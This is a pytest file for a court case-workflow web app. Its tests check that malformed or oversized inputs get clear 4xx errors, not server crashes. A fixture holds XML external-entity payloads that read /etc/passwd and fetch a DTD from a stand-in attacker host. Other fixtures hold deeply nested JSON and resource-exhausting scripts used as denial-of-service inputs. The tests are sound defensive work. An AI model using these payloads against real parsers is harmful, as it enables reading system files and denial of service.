"""No 500, ever (issue 14): each input that was a 500 on HEAD eea8641 is a 4xx that names the problem, or one
clear line on the CLI, and nothing is stored."""
from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest
from werkzeug.datastructures import FileStorage, MultiDict
from werkzeug.security import generate_password_hash
from werkzeug.test import encode_multipart

from engine.definitions.validation import MAX_PROBLEMS
from web import create_app
from web.security import MAX_JSON_DEPTH, MAX_PAGE

from testpaths import ENGINE_BPMN

ROOT = Path(__file__).resolve().parents[2]
PASSWORD = "pw"
COURT = "J0104"
CASE_FLOW = (ENGINE_BPMN / "case_flow.bpmn").read_text()
BODY = CASE_FLOW.split("?>", 1)[1] if CASE_FLOW.startswith("<?xml") else CASE_FLOW
# a parameter entity: an external one, and one that declares an entity (both were a 500 from SpiffWorkflow's parser)
PARAMETER_ENTITIES = {
    "external": '<!DOCTYPE d [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>' + BODY,
    "internal": '<!DOCTYPE d [<!ENTITY % p "<!ENTITY x \'y\'>"> %p;]>' + BODY.replace('name="', 'name="&x;', 1),
    "remote": '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>' + BODY,
}
DEEP = "[" * 990 + "]" * 990


@pytest.fixture
def app(engine):
    engine.deploy([ENGINE_BPMN])
    pw = generate_password_hash(PASSWORD, method="pbkdf2:sha256:1000")
    engine.add_user("sheji", "流程设计 周", [(COURT, "designer"), (COURT, "filing_clerk"), (COURT, "supervisor"),
                                         (COURT, "admin")], pw)
    app = create_app({"ENGINE": engine, "TESTING": True, "SECRET_KEY": "test"})
    app.token = engine.tokens.create("sheji", "no-500", "admin")[1]
    return app


def api(app, method, path, **kwargs):
    return getattr(app.test_client(), method)(path, headers={"Authorization": f"Bearer {app.token}"}, **kwargs)


def login(app):
    client = app.test_client()
    token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/login").get_data(as_text=True))[1]
    assert client.post("/login", data={"username": "sheji", "password": PASSWORD, "csrf_token": token}) \
        .status_code == 302
    client.csrf = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/login").get_data(as_text=True))[1]
    return client


def versions(engine):
    return engine.executor.read(lambda conn: conn.exec_driver_sql(
        "SELECT process_id, version FROM definitions ORDER BY id").all())


def deploy_files(**replace) -> list:
    files = {p.name: p.read_bytes() for p in ENGINE_BPMN.iterdir()}
    files.update({n: c.encode() if isinstance(c, str) else c for n, c in replace.items()})
    return [(io.BytesIO(c), n) for n, c in files.items()]


# -- DTDs and parameter entities -------------------------------------------------------------------------------
@pytest.mark.parametrize("kind", PARAMETER_ENTITIES)
def test_a_parameter_entity_diagram_is_422_on_the_api(app, engine, kind):
    before = versions(engine)
    response = api(app, "post", "/api/v1/definitions", content_type="multipart/form-data",
                   data={"files": deploy_files(**{"case_flow.bpmn": PARAMETER_ENTITIES[kind]})})
    assert response.status_code == 422, response.get_data(as_text=True)[:300]
    assert "DOCTYPE" in json.dumps(response.json) and "root:" not in response.get_data(as_text=True)
    assert versions(engine) == before


@pytest.mark.parametrize("kind", PARAMETER_ENTITIES)
def test_a_parameter_entity_diagram_is_refused_by_the_designers_validate_and_deploy(app, engine, kind):
    designer = login(app)
    draft = designer.post("/design/drafts", data={"csrf_token": designer.csrf, "process": "case_flow",
                                                  "version": "1"}).headers["Location"]
    before = versions(engine)
    saved = designer.post(draft + "/file", json={"name": "case_flow.bpmn", "content": PARAMETER_ENTITIES[kind]},
                          headers={"X-CSRF-Token": designer.csrf})
    assert saved.status_code == 200, saved.get_data(as_text=True)[:300]
    checked = designer.post(draft + "/validate", headers={"X-CSRF-Token": designer.csrf})
    assert checked.status_code == 200 and "DOCTYPE" in json.dumps(checked.json, ensure_ascii=False)
    deployed = designer.post(draft + "/deploy", headers={"X-CSRF-Token": designer.csrf})
    assert deployed.status_code == 422 and "DOCTYPE" in json.dumps(deployed.json, ensure_ascii=False)
    assert versions(engine) == before


def test_the_validate_command_calls_a_parameter_entity_file_invalid(tmp_path):
    path = tmp_path / "case_flow.bpmn"
    path.write_text(PARAMETER_ENTITIES["internal"])
    result = subprocess.run([sys.executable, "-c", "from web.cli import main; main()", "validate", str(path)],
                            cwd=ROOT, capture_output=True, text=True, timeout=120,
                            env=dict(os.environ, DATABASE_URL="sqlite:///:memory:"))
    assert result.returncode == 1 and "DOCTYPE" in result.stderr and "Traceback" not in result.stderr


# -- sizes: deep JSON, a huge diagram, many problems, huge numbers ----------------------------------------------
def test_json_nested_990_levels_is_400_on_the_api(app):
    response = api(app, "post", "/api/v1/cases", data=DEEP, content_type="application/json")
    assert response.status_code == 400 and "send a JSON object" in response.json["error"]["message"]
    nested = {"process_id": "case_flow", "court": COURT, "data": json.loads("[" * 100 + "]" * 100)}
    too_deep = api(app, "post", "/api/v1/cases", json=nested)
    assert too_deep.status_code == 400, too_deep.get_data(as_text=True)[:200]


def test_json_nested_990_levels_is_400_on_the_designers_save(app):
    designer = login(app)
    draft = designer.post("/design/drafts", data={"csrf_token": designer.csrf, "process": "case_flow",
                                                  "version": "1"}).headers["Location"]
    saved = designer.post(draft + "/file", data=DEEP, content_type="application/json",
                          headers={"X-CSRF-Token": designer.csrf})
    assert saved.status_code == 422 and "JSON" in saved.json["error"], saved.get_data(as_text=True)[:200]
    as_file = designer.post(draft + "/file", json={"name": "register.schema.json", "content": DEEP},
                            headers={"X-CSRF-Token": designer.csrf})
    assert as_file.status_code == 422 and "nested too deeply" in as_file.get_data(as_text=True)


def test_a_deep_json_form_is_422_on_the_api_deploy(app, engine):
    before = versions(engine)
    response = api(app, "post", "/api/v1/definitions", content_type="multipart/form-data",
                   data={"files": deploy_files(**{"register.schema.json": DEEP})})
    assert response.status_code == 422 and f"deeper than {MAX_JSON_DEPTH}" in json.dumps(response.json)
    assert versions(engine) == before


def test_a_300k_element_diagram_is_refused_fast_with_a_short_answer(app, engine):
    """On HEAD: a 35.8 MB error response after 8.7 s."""
    junk = "".join(f'<bpmn:task id="t{i}"><bpmn:incoming>x{i}</bpmn:incoming></bpmn:task>' for i in range(100_000))
    huge = BODY.replace("</bpmn:process>", junk + "</bpmn:process>", 1)
    # encoded here, in memory: the test client spools a body over 500 KB to a temporary file it never closes
    boundary, body = encode_multipart(MultiDict(
        [("files", FileStorage(stream, name)) for stream, name in deploy_files(**{"case_flow.bpmn": huge})]))
    start = time.monotonic()
    response = api(app, "post", "/api/v1/definitions", data=body,
                   content_type=f"multipart/form-data; boundary={boundary}")
    elapsed = time.monotonic() - start
    assert response.status_code == 422 and "more than the 50000" in json.dumps(response.json)
    assert elapsed < 4 and len(response.get_data()) < 10_000, (elapsed, len(response.get_data()))


def test_at_most_200_problems_are_listed(app, engine):
    broken = "".join(f'<bpmn:sequenceFlow id="f{i}" sourceRef="nowhere{i}" targetRef="none{i}"/>'
                     for i in range(1000))
    response = api(app, "post", "/api/v1/definitions", content_type="multipart/form-data",
                   data={"files": deploy_files(**{"case_flow.bpmn": BODY.replace("</bpmn:process>",
                                                                                 broken + "</bpmn:process>", 1)})})
    assert response.status_code == 422
    fields = response.json["error"]["fields"]
    assert len(fields) == MAX_PROBLEMS + 1 and "more problem(s) not listed" in fields[f"problem {MAX_PROBLEMS + 1}"]


@pytest.mark.parametrize("page", ["99999999999999999999", str(MAX_PAGE + 1), str(2**63)])
def test_a_huge_page_number_is_400_on_the_api(app, page):
    response = api(app, "get", f"/api/v1/cases?page={page}")
    assert response.status_code == 400 and "page" in response.json["error"]["message"]


@pytest.mark.parametrize("path", ["/cases?page=99999999999999999999", "/admin/users?page=99999999999999999999",
                                  "/?page=99999999999999999999", "/supervise/instances?page=99999999999999999999",
                                  "/supervise/incidents?page=99999999999999999999"])
def test_a_huge_page_number_on_a_page_is_the_last_page_not_a_500(app, path):
    assert login(app).get(path).status_code == 200


def test_metrics_over_the_whole_calendar_are_400(app):
    response = api(app, "get", f"/api/v1/metrics?court={COURT}&from=0001-01-01&to=9999-12-31")
    assert response.status_code == 400 and set(response.json["error"]["fields"]) == {"from", "to"}
    assert api(app, "get", f"/api/v1/metrics?court={COURT}&from=2026-01-01&to=2026-03-31").status_code == 200


@pytest.mark.parametrize("query", ["end=0001-01-01", "start=9999-12-31&end=9999-12-31", "end=0001-01-29"])
def test_the_heatmap_over_the_whole_calendar_is_400(app, query):
    response = login(app).get(f"/supervise/heatmap?{query}")
    assert response.status_code == 400 and "日期应在" in response.get_data(as_text=True)


@pytest.mark.parametrize("month", ["9999-12", "0001-01"])
def test_the_dashboard_for_a_far_month_shows_this_month(app, month):
    assert login(app).get(f"/supervise/?month={month}").status_code == 200


# -- failures while a case starts ------------------------------------------------------------------------------
def small(process_id: str, script: str) -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8"?><bpmn:definitions '
            f'xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d" targetNamespace="http://zx.example">'
            f'<bpmn:process id="{process_id}" isExecutable="true"><bpmn:startEvent id="s"/>'
            f'<bpmn:scriptTask id="run"><bpmn:script>{script}</bpmn:script></bpmn:scriptTask>'
            f'<bpmn:exclusiveGateway id="again" default="out"/><bpmn:endEvent id="e"/>'
            f'<bpmn:sequenceFlow id="f1" sourceRef="s" targetRef="run"/>'
            f'<bpmn:sequenceFlow id="f2" sourceRef="run" targetRef="again"/>'
            f'<bpmn:sequenceFlow id="back" sourceRef="again" targetRef="run">'
            f'<bpmn:conditionExpression>n &lt; 1000000000</bpmn:conditionExpression></bpmn:sequenceFlow>'
            f'<bpmn:sequenceFlow id="out" sourceRef="again" targetRef="e"/></bpmn:process></bpmn:definitions>'
            ).encode()


@pytest.mark.parametrize("process_id, script, words", [
    ("divide", "n = 1 / 0 + n", "ZeroDivisionError"),                      # a script failure
    ("spin", "n = n + 1", "without waiting"),                               # the engine step's budget
    ("greedy", "n = len([list(range(10000)) for i in range(10000)])", "run: "),   # the expression budget
])
def test_a_failure_while_a_case_starts_is_409_like_after_a_completion(app, engine, process_id, script, words):
    engine.deploy({f"{process_id}.bpmn": small(process_id, script)})
    response = api(app, "post", "/api/v1/cases", json={"process_id": process_id, "court": COURT,
                                                        "case_no": "（2026）J0104执9号", "data": {"n": 0}})
    assert response.status_code == 409, response.get_data(as_text=True)[:300]
    error = response.json["error"]
    assert error["code"] == "conflict" and words in error["message"] and "could not start" in error["message"]
    assert engine.executor.read(lambda conn: conn.exec_driver_sql("SELECT count(*) FROM instances").scalar()) == 0
